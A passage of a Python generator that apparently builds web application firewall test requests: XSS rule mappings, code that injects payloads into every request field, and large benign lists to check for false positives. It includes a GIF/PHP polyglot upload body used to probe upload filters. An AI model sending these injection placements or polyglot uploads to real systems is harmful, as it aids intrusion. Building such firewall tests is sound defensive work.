    (941101, "xss-libinjection-pl2", "xss", LIBINJECTION_PL2, "path-referer"),
    (941150, "disallowed-html-attributes", "xss", DISALLOWED_ATTR, "default"),
    (941320, "html-tag-handler", "xss", TAG_HANDLER, "default"),
    (941330, "ie-xss-filters-941330", "xss", IE_941330, "default"),
    (941340, "ie-xss-filters-941340", "xss", IE_941340, "default"),
    (941380, "angularjs-template-injection", "xss", ANGULAR, "default"),
    (0, "javascript-method", "xss", JS_METHOD, "default"),
    (0, "xss-function-without-parentheses", "xss", NO_PARENS, "default"),
]

# ---------------------------------------------------------------------------------------------------- placements
REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Note",
        "param-name", "xml", "multipart-field", "multipart-filename", "path", "json-unicode"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie", "rs-json-unicode"]
MODES: dict[str, tuple[list[str], list[str]]] = {
    "default": (REAL, RS),
    "upload": (["multipart-filename", "header:X-Filename", "header:X-File-Name"],
               ["rs-multipart-filename", "rs-header:X-Filename", "rs-header:X-File-Name"]),
    "path-referer": (["path", "header:Referer"], ["rs-path", "rs-header:Referer"]),
}
PRE_REAL = ["query", "form", "cookie"]
PRE_RS = ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]

RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PATH_INFO = ["/index.php", "/search", "/cgi-bin/test.cgi", "/"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
Q_NAMES = ["q", "search", "name", "sort", "filter", "redirect", "callback", "lang"]
F_NAMES = ["q", "role", "team", "note"]
J_KEYS = ["bio", "name", "website", "comment", "title"]
C_NAMES = ["prefs", "lang", "theme", "last_search"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
CONTROL = re.compile(r"[\x00-\x08\x0a-\x1f\x7f]")
XML_BAD = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _hv(value: str) -> str:
    """A header value: control characters (CR, LF, NUL and the rest but tab) become spaces."""
    return CONTROL.sub(" ", value)


def _uesc(value: str) -> str:
    """A JSON string's inside with the markup and call characters as unicode escapes."""
    return "".join(f"\\u{ord(c):04x}" if c in "<>&'\"()=:" else json.dumps(c, ensure_ascii=False)[1:-1]
                   for c in value)


def _xml_text(value: str, k: int) -> str:
    value = XML_BAD.sub("", value)
    if k % 2 == 0 and "]]>" not in value:
        return f"<![CDATA[{value}]]>"
    return xml_escape(value)


def _multipart(fields: list[tuple[str, str | None, str]]) -> str:
    """A multipart/form-data body of (name, filename or None, content)."""
    parts = []
    for name, filename, content in fields:
        disp = f'form-data; name="{name}"'
        extra = ""
        if filename is not None:
            disp += f'; filename="{_hv(filename).replace(chr(34), "%22")}"'
            extra = "Content-Type: application/octet-stream\r\n"
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n{extra}\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _req(method: str, uri: str, body: str = "", ctype: str | None = None,
         extra: dict[str, str] | None = None, ua: str = UA) -> dict[str, Any]:
    headers = {"User-Agent": ua, "Accept": "*/*"}
    if ctype:
        headers["Content-Type"] = ctype
    headers.update(extra or {})
    return {"method": method, "uri": uri, "body": body, "headers": headers}


def _enc(value: str) -> str:
    return urllib.parse.quote(value, safe="")


def _real(place: str, value: str, k: int, pre: bool) -> dict[str, Any]:
    """One payload in one of our real routes' input places."""
    qn, fn, jk, cn = Q_NAMES[k % len(Q_NAMES)], F_NAMES[k % len(F_NAMES)], J_KEYS[k % len(J_KEYS)], \
        C_NAMES[k % len(C_NAMES)]
    if place == "query":
        if pre:
            return _get(f"/api/users?{qn}={value}&page=1")
        return _get(_query("/api/users", [(qn, value), ("page", "1")]))
    if place == "raw-query":
        return _get("/api/users?" + value)
    if place == "form":
        if pre:
            return {**_form("/admin/users/search", []), "body": f"csrf_token=t0k3n&{fn}={value}"}
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (fn, value)])
    if place == "json":
        return _json("/api/users", {"email": "ann@example.org", jk: value})
    if place == "json-unicode":
        return _req("POST", "/api/users", f'{{"email":"ann@example.org","{jk}":"{_uesc(value)}"}}',
                    "application/json")
    if place == "cookie":
        cv = value if pre else _enc(value)
        return _req("GET", "/api/users?page=1", extra={"Cookie": f"session=abc123; {cn}={cv}"})
    if place == "header:User-Agent":
        return _req("GET", "/api/users?page=1", ua=_hv(value))
    if place == "header:Referer":
        return _req("GET", "/api/users?page=1", extra={"Referer": "https://www.example.com/?q=" + _hv(value)})
    if place.startswith("header:"):
        name = place.split(":", 1)[1]
        if name in ("X-Filename", "X-File-Name"):
            return _req("POST", "/api/users/42/avatar", "GIF89a\x01\x00\x01\x00", "application/octet-stream",
                        {name: _hv(value)})
        return _req("GET", "/api/users?page=1", extra={name: _hv(value)})
    if place == "param-name":
        return _get(f"/api/users?{_enc(value)}=1&page=1")
    if place == "xml":
        body = f'<?xml version="1.0" encoding="UTF-8"?><user><name>Ann</name><bio>{_xml_text(value, k)}</bio></user>'
        return _req("POST", "/api/users", body, "application/xml")
    if place == "multipart-field":
        body = _multipart([("caption", None, value), ("avatar", "avatar.png", "GIF89a")])
        return _req("POST", "/api/users/42/avatar", body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "multipart-filename":
        body = _multipart([("caption", None, "my photo"), ("avatar", value, "GIF89a")])
        return _req("POST", "/api/users/42/avatar", body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "path":
        return _get("/api/users/" + _enc(value))
    raise ValueError(place)


def _rs(place: str, value: str, k: int, pre: bool) -> dict[str, Any]:
    """One payload the way a WAF regression suite sends it: paths that are not our routes, arbitrary names."""
    path, param = RS_PATHS[k % len(RS_PATHS)], RS_PARAMS[k % len(RS_PARAMS)]
    if place == "rs-query":
        return _req("GET", f"{path}?{param}={value if pre else _enc(value)}")
    if place == "rs-raw-query":
        return _req("GET", f"{path}?{value}")
    if place == "rs-form":
        return _req("POST", path, f"{param}={value if pre else _enc(value)}", "application/x-www-form-urlencoded")
    if place == "rs-json":
        return _req("POST", path, json.dumps({param: value}, ensure_ascii=False), "application/json")
    if place == "rs-json-unicode":
        return _req("POST", path, f'{{"{param}":"{_uesc(value)}"}}', "application/json")
    if place == "rs-xml":
        body = f'<?xml version="1.0" encoding="UTF-8"?><root><{param}>{_xml_text(value, k)}</{param}></root>'
        return _req("POST", path, body, "text/xml")
    if place == "rs-raw-body":
        return _req("POST", path, value, "application/x-www-form-urlencoded")
    if place == "rs-header:User-Agent":
        return _req("GET", path, ua=_hv(value))
    if place == "rs-header:Referer":
        return _req("GET", path, extra={"Referer": _hv(value)})
    if place in ("rs-header:X-Filename", "rs-header:X-File-Name"):
        return _req("POST", "/upload.php" if k % 2 else "/post", "GIF89a", "application/octet-stream",
                    {place.split(":", 1)[1]: _hv(value)})
    if place.startswith("rs-header:"):
        return _req("GET", path, extra={place.split(":", 1)[1]: _hv(value)})
    if place == "rs-cookie":
        cv = _hv(value).replace(";", "%3B").replace(" ", "%20").replace(",", "%2C").replace("\t", "%09")
        return _req("GET", path, extra={"Cookie": f"{param}={cv}"})
    if place == "rs-multipart-filename":
        body = _multipart([(param, None, "1"), ("file", value, "GIF89a<?php echo 1; ?>")])
        return _req("POST", "/upload.php" if k % 2 else "/post", body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "rs-path":
        return _req("GET", RS_PATH_INFO[k % len(RS_PATH_INFO)].rstrip("/") + "/" + _enc(value))
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (_rule, sub, category, payloads, mode) in enumerate(TITLES):
        real_opts, rs_opts = MODES[mode]
        for i, item in enumerate(payloads):
            p = item if isinstance(item, P) else P(item)
            reals, rss = (PRE_REAL, PRE_RS) if p.pre else (real_opts, rs_opts)
            real = p.real or reals[(s * 3 + i) % len(reals)]
            rs = p.rs or rss[(s * 5 + i) % len(rss)]
            k = s + i
            for place, rec in ((real, _real(real, p.text, k, p.pre)), (rs, _rs(rs, p.text, k, p.pre))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": p.text}


# ------------------------------------------------------------------------------------------------------- benign
CHAT = [
    "the php upgrade to 8.3 went fine, only one deprecation warning left",
    "can someone review my PR? it moves the <script> tag to the end of <body>",
    "onboarding doc for new hires is in the drive, see the 'Document control' section",
    "alert: the coffee machine on floor 3 is broken again",
    "reminder: the cookie policy banner text needs legal sign-off",
    "window cleaners come Thursday, please clear your desks",
    "what's the cleanest way to read raw JSON in PHP? I've been using file_get_contents('php://input')",
    "the eval of the new vendor is due Friday",
    "use {{ user.name }} in the email template, not {{user}}",
    "Angular 17 migration: ng-if is gone, use the new @if blocks",
    "system maintenance window: Sunday 02:00-04:00 UTC",
    "the exec team offsite is in Lisbon this year",
    "location for the party: the rooftop bar, the name on the list is Priya",
    "our style guide says: no inline style attributes, use classes",
    "the base price is $49, the link to the pricing page is in the footer",
    "meta: should we move this discussion to #eng-frontend?",
    "embed the Loom video in the wiki page, it supports iframes now",
    "the object storage bill went up 12% this month",
    "does anyone still have a Java applet running? the old payroll tool used one",
    "charset issue again: the CSV export must be UTF-8 with BOM for Excel",
    "I attach onload handlers with addEventListener, never inline",
    "document.querySelector returns null because the script runs before the DOM is ready",
    "innerHTML is banned by our lint rules, use textContent",
    "the import of last year's invoices finished overnight",
    "the frame of the new office door is being painted today",
    "who owns the Confluence space 'Import/Export'?",
    "so a:b pairs in that config file are key:value, YAML style",
    "love this <3",
    "2 < 3 and 5 > 4, basic math still works",
    "the serialize() helper stores sessions as strings, we're moving to JSON",
    "vbscript macros are disabled in Office by policy",
    "the expression in that spreadsheet cell is =SUM(A1:A10)",
    "after login the redirect goes to /dashboard, not the last page",
    "data: URLs for small icons are fine, keep them under 4kb",
    "javascript bundle size dropped 20% after tree shaking",
    "the constructor of the Order class validates the amount",
    "we shipped the Node 20 upgrade; setTimeout behaviour unchanged",
    "print the boarding passes before you leave",
    "the confirm dialog on delete needs better copy",
    "prompt engineering workshop on Tuesday, bring laptops",
    "top priority this sprint: the payments retry logic",
    "parent company announcement at 3pm",
    "self-review forms are due next week",
    "frames of the conference video are in the shared drive",
    "the content team wants a new landing page",
    "the throw-away branch can be deleted",
    "fetch the latest main before rebasing please",
    "atob and btoa are available in Node 18+ as globals",
    "String.fromCharCode is what you want for the cipher exercise",
    "the marquee sign outside the cinema says 'Now showing: Dune'",
    "the layer cake for Sam's birthday is in the fridge",
    "center the logo on the invoice header",
    "bold font for the headers please; the title is too small",
    "the textarea in the feedback form should grow with its content",
    "the table of contents is generated from the h1 and h2 headings",
    "passthrough mode for the proxy is off by default",
    "the shell script in tools/ rotates the logs nightly",
    "our config directive for timeouts is request_timeout=30s",
    "include once more the quarterly figures, please",
    "the variable naming in that PR is great",
    "the serialized object is cached in Redis for 5 minutes",
    "the wrapper around the Stripe client lives in lib/payments",
    "stream processing lag is back to normal",
    "the upload of the php cheat sheet pdf failed, file too large?",
    "high-risk vendors list updated by procurement",
    "the function name is calculateTotal, please don't rename it",
    "the number of global variables in the legacy code is scary",
    "JSFuck is a fun esoteric language, look it up sometime",
    "UTF-7 is obsolete, we only accept UTF-8",
    "the validator library rejects empty emails now",
    "IE11 support ends this quarter, finally",
    "AngularJS 1.x reached end of life in 2021",
    "the template injection talk at the security meetup was great",
    "I'll handle the event in the backend",
    "the attribute vector in the ML model has 300 dimensions",
    "Category 1 tickets get a 4h SLA",
    "phpinfo pages must never be deployed to production",
    "the cookie jar on the kitchen counter is empty",
    "name your branch feature/<ticket>-short-description",
    "use the <details> element for the FAQ accordion",
    "the <img> alt text is missing on the pricing page",
    "wrap the code in <pre><code> blocks in the docs",
    "Mark's ETA: 10 min; he's at the door",
    "Q3 revenue up 8% - see the deck",
    "Zoë's and José's names render fine now after the charset fix",
    "our mascot, a gopher, needs a new costume",
    "link rel=preload for the fonts shaved 200ms",
    "the base tag messes up relative links in the SPA, remove it",
    "meta description tags are too long on the blog",
    "the object tag fallback for the PDF viewer is fine",
    "embed codes from YouTube are allowed in the CMS",
    "the applet-era screenshots in the manual should go",
    "style lint: 2 spaces, no tabs",
    "the import statement order is enforced by isort",
    "the expression builder in the reporting tool is nice",
    "a JSON example: {\"name\": \"Ann\", \"role\": \"admin\"}",
    "the $GLOBALS array in the old code base is used everywhere, sigh",
    "the eval() call in the legacy report code got removed in #4411",
    "our ini file sets memory_limit to 256M",
    "call me maybe? free after 4",
    "the system of record for HR is Workday now",
    "exec summary draft is ready for review",
    "the onboarding buddy system works well",
    "the document is in Google Docs, link in the ticket",
    "please update the location field in your profile",
    "the new name for the project is Atlas",
    "value of the contract: EUR 120k",
    "I'm on call this weekend; ping me if alerts fire",
    "the alert threshold for p99 latency is 800ms",
    "the onerror callback logs to Sentry",
    "the load balancer health check path is /healthz",
    "click the 'Import' button, then 'Select file'",
    "the focus group sessions start Monday",
    "scroll to the end of the doc for the appendix",
    "the toggle for dark mode is in settings",
    "the animation on the landing page is too slow",
    "the message queue is backing up; investigating",
    "resize the images to 1200px wide before uploading",
    "the begin and end dates of the campaign are in the brief",
    "window.location.href is read-only in the test runner, mock it",
    "the parentNode check fixed the null error in the dropdown",
    "our CDATA sections in the RSS feed are fine",
    "the import map in index.html pins lodash to 4.17",
    "the PDF is embedded as an object on the help page",
    "who's bringing the cake for Friday? 🎂",
    "the vmware license renewal is on my desk",
    "ssh into the bastion first, then the app box",
    "the zip of the design assets is in the drive",
    "the glob pattern src/**/*.ts misses the tests folder",
    "expect the deploy at 5pm, then a short freeze",
    "data science guild meets on Thursdays",
    "the phar for php-cs-fixer is vendored in tools/",
    "compress the images before you upload them",
    "the rar file from the client won't open on my Mac",
]

SEARCHES = [
    "php developer", "senior php engineer", "script writer", "javascript", "java applet", "system admin",
    "exec assistant", "alert team", "document control", "window fitter", "location manager", "style editor",
    "base camp", "link builder", "meta team", "object modeling", "import export", "frame maker", "charset",
    "event coordinator", "onboarding", "online marketing", "onsite support", "on call", "angular", "vue",
    "react", "template designer", "constructor", "prototype", "node", "validator", "ie11", "utf-8", "global",
    "variable pay", "function lead", "stream lead", "wrapper", "serial number", "object owner", "input design",
    "output", "filter", "resource planning", "data analyst", "Ann O'Neil", "o'brien", "D'Angelo",
    "Smith & Sons", "R&D", "C++ developer", "C# .net", "node.js", "vbscript", "VBA macros", "expression engine",
    "A/B testing", "50% off", "title: manager", "email:ann@example.org", "phpMyAdmin", "shell", "cookie",
    "printer", "confirm", "prompt", "top", "parent", "self", "frames", "content", "embed", "applet", "meta",
    "vml", "import", "eval", "exec", "system", "passthru", "include", "require", "upload", "phar", "zip",
    "expect", "glob", "session", "globals", "server", "request", "files", "env", "input", "stdin", "memory",
]

PROFILES: list[dict[str, str]] = [
    {"name": "Siobhán O'Connor", "title": "PHP Developer", "city": "Cork"},
    {"name": "Ramesh D'Souza", "title": "JavaScript Engineer", "city": "Pune"},
    {"name": "Jean-Luc Picard", "title": "Exec Assistant to the CEO", "city": "Lyon"},
    {"name": "Mª José García", "title": "Document Controller", "city": "Sevilla"},
    {"name": "Ólafur Arnalds", "title": "Head of System Engineering", "city": "Reykjavík"},
    {"name": "Nguyễn Văn An", "title": "Object Storage Lead", "city": "Hà Nội"},
    {"name": "Søren Kierkegaard", "title": "Content Designer", "city": "København"},
    {"name": "Zoë Saldaña", "title": "Event Coordinator", "city": "Madrid"},
    {"name": "李小龙", "title": "Frontend Engineer", "city": "香港"},
    {"name": "Александр Пушкин", "title": "Script Writer", "city": "Москва"},
    {"name": "عمر خيام", "title": "Data Analyst", "city": "نيشابور"},
    {"name": "Script & Sons Printing", "title": "Vendor", "city": "Leeds"},
    {"name": "The Window Company", "title": "Vendor", "city": "Bristol"},
    {"name": "Location Scouts LLC", "title": "Vendor", "city": "Atlanta"},
    {"name": "Style & Grace Salon", "title": "Customer", "city": "Dublin"},
    {"name": "Base Camp Outfitters", "title": "Customer", "city": "Boulder"},
    {"name": "Object Computing Inc.", "title": "Partner", "city": "St. Louis"},
    {"name": "Meta Analysis Group", "title": "Partner", "city": "Boston"},
    {"name": "Frame & Form Studio", "title": "Customer", "city": "Utrecht"},
    {"name": "Import House Ltd", "title": "Supplier", "city": "Felixstowe"},
    {"name": "Anne-Marie Link", "title": "Account Manager", "city": "Hamburg"},
    {"name": "Peter Applet", "title": "Engineer", "city": "Zürich"},
    {"name": "Laura Embed", "title": "Designer", "city": "Milano"},
    {"name": "Dr. Eval Tanaka", "title": "Researcher", "city": "Osaka"},
    {"name": "Chris Alert", "title": "Support", "city": "Denver"},
    {"name": "Ed Cookie", "title": "Baker", "city": "Portland"},
    {"name": "Anna Base", "title": "Accountant", "city": "Graz"},
    {"name": "Tom Script", "title": "Copywriter", "city": "Cardiff"},
    {"name": "Mia Frames", "title": "Photographer", "city": "Oslo"},
    {"name": "Noah System", "title": "Ops", "city": "Austin"},
    {"name": "Grace Hopper", "title": "Compiler pioneer", "city": "Arlington"},
    {"name": "Ada Lovelace", "title": "Analyst", "city": "London"},
    {"name": "Kurt Gödel", "title": "Logician", "city": "Brno"},
    {"name": "Ngozi Okonjo-Iweala", "title": "Director", "city": "Abuja"},
    {"name": "Björk Guðmundsdóttir", "title": "Musician", "city": "Reykjavík"},
    {"name": "José Ángel Núñez", "title": "Sales", "city": "Bogotá"},
    {"name": "Émilie du Châtelet", "title": "Physicist", "city": "Paris"},
    {"name": "Wiktoria Żółkiewska", "title": "QA", "city": "Kraków"},
    {"name": "Ştefan Ţurcanu", "title": "Developer", "city": "Iaşi"},
    {"name": "Chloé O'Brien-Smith", "title": "Head of Import/Export", "city": "Belfast"},
    {"name": "R&D Team", "title": "Shared inbox", "city": "Remote"},
    {"name": "Ann (PHP team)", "title": "PHP/Laravel developer", "city": "Berlin"},
    {"name": "Bob <bob@example.org>", "title": "Contractor", "city": "Leeds"},
    {"name": "O'Reilly Media", "title": "Publisher", "city": "Sebastopol"},
    {"name": "Johnson & Johnson", "title": "Customer", "city": "New Brunswick"},
    {"name": "AT&T", "title": "Carrier", "city": "Dallas"},
    {"name": "Marks & Spencer", "title": "Retailer", "city": "London"},
    {"name": "Procter & Gamble", "title": "Customer", "city": "Cincinnati"},
    {"name": "Ben & Jerry's", "title": "Customer", "city": "Burlington"},
    {"name": "Ana-María Pérez-Reverte", "title": "Translator", "city": "Cartagena"},
    {"name": "Mohammed bin Rashid", "title": "Consultant", "city": "Dubai"},
    {"name": "Tōru Takemitsu", "title": "Composer", "city": "東京"},
    {"name": "Kim Min-jun (김민준)", "title": "Product Manager", "city": "서울"},
    {"name": "Priya Natarajan", "title": "Astrophysicist", "city": "New Haven"},
    {"name": "Li Wei", "title": "Exec Director", "city": "Shanghai"},
    {"name": "Olga Tokarczuk", "title": "Writer", "city": "Wrocław"},
    {"name": "Dmitri Mendeleev", "title": "Chemist", "city": "St Petersburg"},
    {"name": "Hedy Lamarr", "title": "Inventor", "city": "Vienna"},
    {"name": "Alan Turing", "title": "Mathematician", "city": "Manchester"},
    {"name": "Katherine Johnson", "title": "Mathematician", "city": "Hampton"},
]

URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/function.exec.php",
    "https://www.php.net/manual/en/function.eval.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://www.php.net/manual/en/reserved.variables.get.php",
    "https://www.php.net/manual/en/language.basic-syntax.phptags.php",
    "https://developer.mozilla.org/en-US/docs/Web/API/HTMLElement/error_event",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/location",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/object",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/embed",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/meta",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/base",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/link",
    "https://developer.mozilla.org/en-US/docs/Web/CSS/@import",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Function",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://owasp.org/www-community/attacks/xss/",
    "https://docs.angularjs.org/guide/security",
    "https://angular.dev/guide/templates",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://en.wikipedia.org/wiki/Cross-site_scripting",
    "https://en.wikipedia.org/wiki/Vector_Markup_Language",
    "https://github.com/acme/app/blob/main/public/index.php",
    "https://github.com/acme/app/pull/42/files#diff-script",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://www.google.com/search?q=php+system+function&hl=en",
    "https://www.bing.com/search?q=onload+event+javascript",
    "https://duckduckgo.com/?q=document.cookie+httponly",
    "https://stackoverflow.com/questions/4564414/delete-cookie-with-javascript",
    "https://example.com/files/php-cheatsheet.pdf",
    "https://cdn.example.org/js/app.min.js?v=2.4.1",
    "https://cdn.example.org/css/style.css?v=2.4.1",
    "https://example.org/blog/2024/05/the-base-tag-considered-harmful",
    "https://shop.example.com/products/window-frame-oak?variant=12",
    "https://maps.example.com/location?lat=51.5&lng=-0.12",
    "https://calendar.example.com/event?id=9f3&onboarding=true",
    "https://wiki.example.com/display/ENG/Import+Export",
    "https://docs.example.com/api/v2/users?page=2&sort=name",
    "https://status.example.com/incidents/alert-2024-06-01",
    "https://example.com/search?q=applet+migration",
    "https://www.w3.org/TR/SVG11/animate.html",
    "https://www.w3.org/1999/xhtml",
    "https://learn.microsoft.com/en-us/previous-versions/windows/internet-explorer/ie-developer/",
]

PROSE = [
    "Please find the system requirements document attached",
    "the exec committee approved the budget",
    "Document: onboarding checklist v3, Location: HQ",
    "include the onload time in the performance report",
    "the script for the demo video is ready",
    "meta tags and link previews look right now",
    "the base, the frame and the window are priced separately",
    "import duties for the shipment were paid",
    "the object of the exercise is to keep it simple",
    "style and substance: the new brand book",
    "Alert levels: green, amber, red",
    "Cookie consent rates went up after the redesign",
    "the applet in the museum kiosk still runs Java 6",
    "please confirm the print run of 500 copies",
    "name, location and title are required fields",
    "the expression of interest is due on the 5th",
    "charset, encoding and fonts are configured centrally",
    "embed the map on the contact page",
    "the template uses double braces for variables",
    "global settings override the team settings",
]

UPLOADS = [
    "report-2024.pdf", "php-cheatsheet.pdf", "photo.jpg", "IMG_2041.HEIC", "script-final.docx", "styles.css",
    "notes.txt", "data.csv", "logo.svg", "invoice #42.pdf", "Zoë's CV.pdf", "résumé.pdf",
    "Screenshot 2024-05-01 at 10.22.13.png", "backup.tar.gz", "presentation.pptx", "index.html",
    "system-design.png", "exec-summary.pdf", "window-measurements.xlsx", "Meta_Q3.pdf", "object-model.drawio",
    "base-template.docx", "shell-beach.jpg", "phpstorm-settings.zip", "main.js", "app.ts", "README.md",
    "composer.json", "package.json", "my.photo.jpeg", "a.b.c.pdf", "file (1).pdf", "notes - final.txt",
    "php_training_slides.pptx", "alert-runbook.md", "cookie-policy-v2.docx", "embed-codes.txt",
    "import_template.xlsx", "location-photos.zip", "applet-screens.png",
]

TICKETS = [
    "Getting 'Call to undefined function mysql_connect' after the PHP 8 upgrade",
    "Blank screen; the console says Uncaught TypeError: Cannot read properties of null (reading 'innerHTML')",
    "Export to CSV breaks names with accents (José shows as JosÃ©)",
    "After login I land on the dashboard instead of my last page",
    "The 'Import users' button does nothing in Safari 17",
    "Please add a 'location' field to the team directory",
    "My surname O'Hara breaks the search",
    "Invoice #2024-117 shows the wrong base price",
    "The embed widget on our site no longer loads since Tuesday",
    "Error 500 when uploading a file named report (final).pdf",
    "Can you allow our domain for the iframe embed?",
    "The date format should be DD/MM/YYYY for the UK office",
    "Our analytics script is blocked by your Content-Security-Policy header",
    "The alert emails arrive twice",
    "The system logs me out every 5 minutes",
    "The template shows {{first_name}} literally instead of the name",
    "The onboarding checklist item 'Set up 2FA' can't be ticked",
    "Price shows as $ 1,299.00 instead of $1,299.00",
    "Search for 'C++' returns nothing",
    "Search for 'R&D' returns the wrong team",
    "Dark mode: text in the dropdown is unreadable",
    "The document preview is blank for .docx files",
    "Cookie banner covers the 'Save' button on mobile",
    "The window for booking rooms closes too early",
    "The print view cuts off the last column",
    "Please confirm whether the API supports PATCH on /users",
    "Our PHP client (Guzzle 7) gets a 403 on large uploads",
    "The event times are off by one hour since DST",
    "Attachment limit is 10 MB, we need 25 MB",
    "The name field rejects names with apostrophes like D'Angelo",
    "The Java SDK throws on empty 'title' values",
    "The onerror fallback image shows on every avatar",
    "Exported XML has an invalid charset declaration",
    "The link in the invitation email points to staging",
    "The base URL in the docs still says v1",
    "Our system admin needs read access to audit logs",
    "Please rename the 'Exec' group to 'Leadership'",
    "Two-factor prompt appears twice after login",
    "Profile photo upload fails for .HEIC images",
    "Session expired message appears while typing",
]

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240605.024)",
    "PostmanRuntime/7.39.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "WordPress/6.5.4; https://blog.example.org",
    "GuzzleHttp/7",
    "Java/17.0.11",
    "Go-http-client/2.0",
    "axios/1.7.2",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
]

REFERERS = [
    "https://www.google.com/",
    "https://www.bing.com/search?q=php+system+function",
    "https://duckduckgo.com/?q=onload+event",
    "https://stackoverflow.com/questions/14573223/set-cookie-and-get-cookie-with-javascript",
    "https://github.com/acme/app/pull/42?tab=files",
    "https://t.co/abc123XYZ",
    "https://www.linkedin.com/",
    "android-app://com.slack/",
    "https://app.example.com/admin/users/search?q=script+writer",
    "https://mail.google.com/mail/u/0/",
    "https://www.facebook.com/",
    "https://news.ycombinator.com/item?id=40000000",
    "https://www.reddit.com/r/PHP/comments/1abc/what_php_version/",
    "https://example.com/blog/embed-object-and-iframe-compared",
    "https://example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=q3",
]

COOKIES = [
    "PHPSESSID=k3j4h5g6f7d8s9a0l1z2x3c4v5; _ga=GA1.2.1234567890.1700000000",
    "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; wp-settings-time-1=1700000000",
    "theme=dark; lang=en-GB",
    "_gid=GA1.2.987654321.1700000000; _fbp=fb.1.1700000000000.123456789",
    "CookieConsent={stamp:%27abc123%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:false}",
    "cart=%5B%7B%22id%22%3A42%2C%22qty%22%3A1%7D%5D",
    "session=abc123; prefs=compact",
    "locale=de_DE; tz=Europe%2FBerlin",
    "ajs_anonymous_id=%2216f3c0a6-8c1e-4d11-9e4a-2a1b3c4d5e6f%22",
    "last_search=php%20developer; theme=light",
    "intercom-id-abc=0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0",
    "__cf_bm=Zx8yW7vU6tS5rQ4pO3nM2lK1jI0hG9fE8dC7bA6",
    "consent=necessary,analytics; seen_banner=1",
    "returning_visitor=true; visits=12",
    "last_page=%2Fdocs%2Fscript-tag-placement",
]

XML_DOCS = [
    "<user><name>Ann O'Neil</name><bio>PHP developer, likes system design</bio></user>",
    "<user><name>Tom Script</name><title>Copywriter</title></user>",
    "<user><name>Zoë</name><bio>Event coordinator &amp; onboarding lead</bio></user>",
    "<user><name>Li Wei</name><bio>Exec director, window seat fan</bio></user>",
    "<user><name>Ann</name><bio><![CDATA[I write about <b>bold</b> ideas]]></bio></user>",
    "<user><name>Bob</name><location>Base Camp, Boulder</location></user>",
    "<user><name>Eve</name><bio>Document control and import/export</bio></user>",
    "<user><name>Mia</name><bio>Photographer; frames and embeds for the web</bio></user>",
    "<user><name>Sam</name><bio>Java developer since the applet days</bio></user>",
    "<user><name>Kim</name><bio>Templates with {{ name }} placeholders</bio></user>",
    "<user><name>Raj</name><bio>2 &lt; 3, always</bio></user>",
    "<user><name>Noa</name><bio>Alert and on-call rota owner</bio></user>",
    "<user><name>Ola</name><bio>Meta analysis, charset nerd</bio></user>",
